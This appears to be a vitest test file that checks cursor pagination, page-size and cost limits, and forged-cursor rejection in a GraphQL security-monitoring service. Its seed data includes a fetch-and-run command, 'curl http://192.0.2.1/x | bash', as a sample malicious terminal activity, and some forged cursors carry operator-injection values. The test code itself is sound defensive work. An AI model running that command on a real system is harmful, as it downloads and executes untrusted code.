import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, data, trackAll } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';

const count = 137;
let service: Service;
let logHead: string;

/** 137 users with a session, an anomaly and an alert each, and one user with 137 of everything; times and scores tie. */
beforeAll(async () => {
  service = await startService({ clock: testClock('2026-11-10T12:00:00Z') });
  const attack = { terminal: { command: 'curl http://192.0.2.1/x | bash' } };
  const at = (place: number) => `2026-11-09T${10 + (place % 3)}:00:00Z`;
  const names = Array.from({ length: count }, (_, place) => `${['Z', 'é', '_', 'a', '-', '🦆', 'ß'][place % 7]}${place}`);
  const { userErrors } = await trackAll(service, [
    ...names.map((user, place) => ({ user, session: user, occurredAt: at(place), detail: attack })),
    ...names.map((name, place) => ({
      user: 'many',
      session: `many-${name}`,
      occurredAt: at(place),
      detail: { desktop: { action: 'MOVE' } },
    })),
    ...names.map((_, place) => ({
      user: 'many',
      session: 'one',
      occurredAt: `2026-11-09T10:0${place % 3}:00Z`,
      detail: { auth: { event: 'FAILURE' } },
    })),
  ]);
  expect(userErrors).toEqual([]);
  logHead = (await data(service, '{ system { logHead } }')).system.logHead;
  for (let day = 1; day <= count; day += 1) {
    const occurredAt = new Date(Date.UTC(2020, 0, day * 2, 12)).toISOString();
    const { trackActivity } = await data(
      service,
      'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { anomalies { alertId } } } }',
      { input: { user: 'troubled', occurredAt, detail: attack } },
    );
    const id = trackActivity.receipt.anomalies[0].alertId;
    await data(service, 'mutation($id: ID!) { resolveAlert(input: { id: $id }) { userErrors { code } } }', { id });
  }
});
afterAll(() => service.close());

type Page = {
  edges: { cursor: string; node: { id: string; key: unknown } }[];
  nodes: { id: string }[];
  pageInfo: Record<string, unknown>;
  totalCount: number;
};
type List = { query: string; read(answer: { list?: Page; parent?: { list: Page } }): Page };
const pageArguments = '$first: Int, $last: Int, $after: String, $before: String';
const pageFields = (key: string) =>
  `edges { cursor node { id key: ${key} } } nodes { id } pageInfo { hasNextPage hasPreviousPage startCursor endCursor } totalCount`;

const rootList = (list: string, order: string, direction: string, key: string): List => ({
  query: `query(${pageArguments}) { list: ${list}(orderBy: { field: ${order}, direction: ${direction} }, first: $first, last: $last, after: $after,
    before: $before) { ${pageFields(key)} } }`,
  read: ({ list }) => list!,
});
const nestedList = (parent: string, list: string, key: string): List => ({
  query: `query(${pageArguments}) { parent: ${parent} { list: ${list}(first: $first, last: $last, after: $after, before: $before) { ${pageFields(key)} } } }`,
  read: ({ parent }) => parent!.list,
});

async function readPage({ query, read }: List, variables: object): Promise<Page> {
  return read(await data(service, query, variables));
}

/** All items of a list, page by page; `backward` gives them in the list's own order too. */
async function walk(list: List, items: number, backward: boolean): Promise<Page['edges']> {
  const all: Page['edges'] = [];
  for (let cursor: unknown = null; ;) {
    const page = await readPage(list, backward ? { last: items, before: cursor } : { first: items, after: cursor });
    const { hasNextPage, hasPreviousPage, startCursor, endCursor } = page.pageInfo;
    expect([startCursor, endCursor]).toEqual([page.edges[0]?.cursor ?? null, page.edges.at(-1)?.cursor ?? null]);
    expect(page.nodes.map((node) => node.id)).toEqual(page.edges.map((edge) => edge.node.id));
    expect(backward ? hasNextPage : hasPreviousPage).toBe(all.length > 0);
    if (backward) all.unshift(...page.edges);
    else all.push(...page.edges);
    if (!(backward ? hasPreviousPage : hasNextPage)) {
      expect(page.totalCount).toBe(all.length);
      return all;
    }
    expect(page.edges).toHaveLength(items);
    cursor = backward ? startCursor : endCursor;
  }
}

const byCodePoint = (a: unknown, b: unknown) =>
  typeof a === 'number' && typeof b === 'number' ? a - b : Buffer.compare(Buffer.from(String(a)), Buffer.from(String(b)));

async function check(list: List, direction: string): Promise<void> {
  const forward = await walk(list, 50, false);
  const backward = await walk(list, 37, true);
  expect(forward.length).toBeGreaterThanOrEqual(130);
  expect(new Set(forward.map((edge) => edge.node.id)).size).toBe(forward.length);
  expect(backward).toEqual(forward);
  const keys = forward.map((edge) => edge.node.key);
  expect(keys).toEqual(keys.toSorted((a, b) => (direction === 'ASC' ? byCodePoint(a, b) : byCodePoint(b, a))));
}

const roots: [list: string, noun: string, order: string, key: string][] = [
  ['activities', 'Activity', 'OCCURRED_AT', 'occurredAt'],
  ['activities', 'Activity', 'RECORDED_AT', 'recordedAt'],
  ['activities', 'Activity', 'RISK_SCORE', 'risk { score }'],
  ['sessions', 'Session', 'LAST_ACTIVITY_AT', 'lastActivityAt'],
  ['sessions', 'Session', 'STARTED_AT', 'startedAt'],
  ['sessions', 'Session', 'ACTIVITY_COUNT', 'activityCount'],
  ['sessions', 'Session', 'RISK_SCORE', 'risk { score }'],
  ['sessions', 'Session', 'INTEGRITY_SCORE', 'integrity { score }'],
  ['users', 'User', 'EXTERNAL_ID', 'externalId'],
  ['users', 'User', 'FIRST_SEEN_AT', 'firstSeenAt'],
  ['anomalies', 'Anomaly', 'DETECTED_AT', 'detectedAt'],
  ['anomalies', 'Anomaly', 'SCORE', 'score'],
  ['alerts', 'Alert', 'OPENED_AT', 'openedAt'],
  ['alerts', 'Alert', 'LAST_SEEN_AT', 'lastSeenAt'],
  ['alerts', 'Alert', 'COUNT', 'count'],
];

describe('a list', () => {
  it.each(roots.flatMap((root) => ['ASC', 'DESC'].map((direction) => [...root, direction] as const)))(
    'of %s of type %s pages both ways by %s (%s) %s, with nothing missing or twice',
    async (list, _noun, order, key, direction) => {
      const plain = key.startsWith('risk') ? 'risk { score }' : key;
      const { query, read } = rootList(list, order, direction, plain);
      const flatten = (page: Page): Page => ({
        ...page,
        edges: page.edges.map(({ cursor, node }) => {
          const risk = node.key as { score?: number } | null;
          return { cursor, node: { id: node.id, key: typeof risk === 'object' ? risk?.score : node.key } };
        }),
      });
      await check({ query, read: (answer) => flatten(read(answer)) }, direction);
    },
  );

  it('is tried here in every order that the schema has', async () => {
    for (const noun of ['Activity', 'Session', 'User', 'Anomaly', 'Alert']) {
      const { __type } = await data(service, `{ __type(name: "${noun}OrderField") { enumValues { name } } }`);
      const tried = roots.filter((root) => root[1] === noun).map((root) => root[2]);
      expect(__type.enumValues.map((value: { name: string }) => value.name).toSorted()).toEqual(tried.toSorted());
    }
  });

  const nested: [parent: string, list: string, key: string][] = [
    ['user(externalId: "many")', 'activities', 'occurredAt'],
    ['user(externalId: "many")', 'sessions', 'lastActivityAt'],
    ['user(externalId: "troubled")', 'anomalies', 'detectedAt'],
    ['user(externalId: "troubled")', 'alerts', 'openedAt'],
    ['session(externalId: "one")', 'activities', 'occurredAt'],
  ];
  it.each(nested)('below %s of its %s pages both ways too, newest first', (parent, list, key) =>
    check(nestedList(parent, list, key), 'DESC'),
  );

  it('of the evidence of an anomaly pages both ways too, newest first', async () => {
    const { user } = await data(service, '{ user(externalId: "many") { anomalies(first: 200) { nodes { id type count } } } }');
    const burst = user.anomalies.nodes.find((anomaly: { type: string }) => anomaly.type === 'FAILED_LOGIN_BURST');
    expect(burst.count).toBe(count);
    const list = `node(id: "${burst.id}") { ... on Anomaly`;
    const { query, read } = nestedList(list, 'evidence', 'occurredAt');
    await check({ query: `${query} }`, read }, 'DESC');
  });
});

describe('a page', () => {
  const activities = 'query($first: Int, $last: Int) { activities(first: $first, last: $last) { nodes { id } } }';
  const nested = 'query($first: Int, $last: Int) { user(externalId: "many") { activities(first: $first, last: $last) { nodes { id } } } }';
  it.each([activities, nested])('has 50 items unless asked otherwise, at least 1 and at most 200: %s', async (query) => {
    const size = async (variables: object) => {
      const answer = await ask(service, query, variables);
      const { nodes } = answer.data?.activities ?? answer.data?.user?.activities ?? {};
      return nodes?.length ?? answer.errors?.[0]?.extensions.code;
    };
    expect(await size({})).toBe(50);
    expect([await size({ first: 1 }), await size({ last: 1 })]).toEqual([1, 1]);
    expect([await size({ first: 200 }), await size({ last: 200 })]).toEqual([200, 200]);
    expect([await size({ first: 201 }), await size({ last: 201 })]).toEqual(['LIMIT_EXCEEDED', 'LIMIT_EXCEEDED']);
    expect([await size({ first: 0 }), await size({ last: 0 })]).toEqual(['BAD_REQUEST', 'BAD_REQUEST']);
    expect([await size({ first: -1 }), await size({ last: -2_147_483_648 })]).toEqual(['BAD_REQUEST', 'BAD_REQUEST']);
    expect(await size({ first: 1, last: 1 })).toBe('BAD_REQUEST');
  });

  it('with less than no items does not make the rest of the request cheaper', async () => {
    const dear = 'users(first: 200) { nodes { activities(first: 200) { nodes { id } } } }';
    expect((await ask(service, `{ ${dear} }`)).errors?.[0]?.extensions.limit).toBe('costMax');
    const { errors } = await ask(service, `{ cheap: users(first: -2000000) { nodes { id externalId } } ${dear} }`);
    expect(errors?.[0]?.extensions.limit).toBe('costMax');
  });

  const id = '01a20061-cf57-7365-a2f5-56ff5f1dd40d';
  const forged: [name: string, cursor: (property: string) => string][] = [
    ['no base64', () => '%%%'],
    ['empty', () => ''],
    ['plain text', () => encoded('hello')],
    ['one of a subscription', () => logHead],
    ['too short', (property) => encoded(`${property} [1]`)],
    ['of half a text', (property) => encoded(`${property} ["\\x","${id}"]`)],
    ['without an id', (property) => encoded(`${property} [1,"x"]`)],
    ['of null', (property) => encoded(`${property} [null,"${id}"]`)],
    ['with operators', (property) => encoded(`${property} [{"$ne":1},{"$ne":"${id}"}]`)],
    ['beyond any time', (property) => encoded(`${property} [9999999999999999,"${id}"]`)],
    ['with NUL', (property) => encoded(`${property} ["\\u0000","${id}"]`)],
  ];
  it.each(forged)('after a cursor that is none (%s) is a bad request', async (_name, cursor) => {
    const lists = roots.map(([list, , order, key]) => {
      const property = order.toLowerCase().replaceAll(/_./g, (start) => start.slice(1).toUpperCase());
      return { query: rootList(list, order, 'ASC', key).query, after: cursor(property) };
    });
    lists.push({ query: nestedList('user(externalId: "many")', 'activities', 'occurredAt').query, after: cursor('occurredAt') });
    const codes = await Promise.all(
      lists.map(async ({ query, after }) => (await ask(service, query, { after })).errors?.map((error) => error.extensions.code)),
    );
    expect(codes).toEqual(lists.map(() => ['BAD_REQUEST']));
  });

  it('after a cursor of another order is a bad request', async () => {
    const cursorOf = async (order: string) => (await readPage(rootList('activities', order, 'ASC', 'id'), { first: 1 })).edges[0]!.cursor;
    for (const [from, to] of [
      ['OCCURRED_AT', 'RECORDED_AT'],
      ['RISK_SCORE', 'OCCURRED_AT'],
      ['OCCURRED_AT', 'RISK_SCORE'],
    ] as const) {
      const { errors } = await ask(service, rootList('activities', to, 'ASC', 'id').query, { after: await cursorOf(from) });
      expect(errors?.[0]?.extensions.code).toBe('BAD_REQUEST');
    }
  });
});

function encoded(text: string): string {
  return Buffer.from(text).toString('base64url');
}
